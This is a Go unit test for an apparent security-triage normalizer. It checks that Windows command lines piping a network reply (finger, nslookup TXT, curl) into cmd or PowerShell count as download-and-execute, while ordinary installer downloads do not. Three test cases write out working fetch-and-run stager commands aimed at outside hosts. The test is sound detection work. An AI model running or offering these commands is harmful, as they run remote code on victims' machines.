package triage

import "testing"

// A network client's reply piped into a Windows shell is code run from a
// server with no file in between; a download saved for an installer, or
// a Linux install script piped to bash, is not this.
func TestRemoteOutputPipedIntoWindowsShell(t *testing.T) {
	for cmd, want := range map[string]bool{
		`cmd /c "finger gate@185.234.72.19 | cmd"`:                              true,
		`cmd /c nslookup -q=txt stage.example-cdn.net 1.1.1.1 | powershell -`:   true,
		`cmd.exe /c curl.exe -s http://203.0.113.7/v | powershell.exe -nop -`:   true,
		`curl -fsSL https://get.example.dev/install.sh | bash`:                  false,
		`curl.exe -o C:\Temp\agent.msi https://downloads.example.com/agent.msi`: false,
	} {
		raw := map[string]any{"process": map[string]any{"name": "cmd.exe", "command_line": cmd}, "hostname": "wks-1"}
		f := normalize(Incident{IncidentType: "malware", RawData: raw}, Indicators{})
		if f.Endpoint.Behaviour.DownloadExecute != want {
			t.Errorf("%s: download run as code %v, want %v", cmd, f.Endpoint.Behaviour.DownloadExecute, want)
		}
	}
}
